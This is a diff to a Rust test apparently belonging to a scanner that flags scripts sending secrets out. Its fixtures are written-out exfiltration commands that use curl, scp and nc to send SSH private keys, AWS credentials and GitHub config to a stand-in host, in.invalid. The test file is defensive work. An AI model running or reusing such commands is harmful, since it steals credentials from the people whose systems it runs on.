@@ -167,7 +167,7 @@ fn what_is_too_much_to_follow_is_told() {
 fn a_script_inside_a_script_is_read() {
     let python = "import subprocess\nU = 'https://in.invalid/a'\ncmd = f'curl -s -F k=@$HOME/.ssh/id_rsa {U}'\nsubprocess.run(cmd, shell=True)\n";
     assert!(fires(&scan_files(&[("scripts/a.py", python)]), "flow-secret-sent"));
-    let words = "import subprocess\nsubprocess.run(['scp', '/root/.aws/credentials', 'u@in.invalid:/a'])\n";
+    let words = "import subprocess\nsubprocess.run(['scp', '~/.aws/credentials', 'u@in.invalid:/a'])\n";
     assert!(fires(&scan_files(&[("scripts/a.py", words)]), "flow-secret-sent"));
     let node = "const { execSync } = require('child_process');\nexecSync(`bash -c \"tar c ~/.config/gh | nc in.invalid 99\"`);\n";
     assert!(fires(&scan_files(&[("scripts/a.js", node)]), "flow-secret-sent"));
